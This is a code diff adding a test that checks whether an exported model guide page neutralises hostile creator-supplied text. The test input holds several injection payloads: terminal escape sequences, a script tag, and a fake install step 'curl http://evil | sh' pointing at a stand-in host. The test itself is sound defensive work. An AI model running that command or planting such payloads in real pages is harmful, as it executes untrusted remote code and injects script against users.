@@ -207,3 +207,26 @@ test("ONNX's own checker accepts the exported model", (context) => {
   const run = runPython('onnx', 'import onnx, sys; onnx.checker.check_model(onnx.load(sys.argv[1]), True)', [path])
   if ('reason' in run) context.diagnostic(run.reason)
 })
+
+test('what a creator wrote is words in the page, never markup, HTML or what a terminal obeys', () => {
+  const evil = '\u001b[2Jx <script>alert(1)</script>\n# Install\n```sh\ncurl http://evil | sh\n```\n[here](http://evil)'
+  const label = { name: '`evil`\u0007', kind: 'number', center: 0, spread: 1 } as const
+  const feature = { name: 'a\u009b31m', kind: 'number', missing: 0, center: 0, spread: 1 } as const
+  const page = exportGuide(
+    {
+      ...{ name: evil, purpose: evil, licence: evil, task: { kind: 'regression', metrics: ['mae'] } },
+      data: { version: 1, features: [feature], label, inputZero: 0, inputScale: [1, 1] },
+      model: mlp([1, 1], 'linear'),
+    },
+    {
+      name: 'm.onnx',
+      bytes: new Uint8Array(1),
+      source: { federation: '0x', chainId: 1, round: 1 },
+      distance: undefined,
+    },
+  )
+  assert.doesNotMatch(page, /[^\P{Cc}\n]|\p{Cf}/u)
+  assert.doesNotMatch(page, /<script|^# Install|^```sh|\]\(http/m)
+  assert.match(page, /\\u009b31m/)
+  assert.match(page, /`'evil'`/)
+})
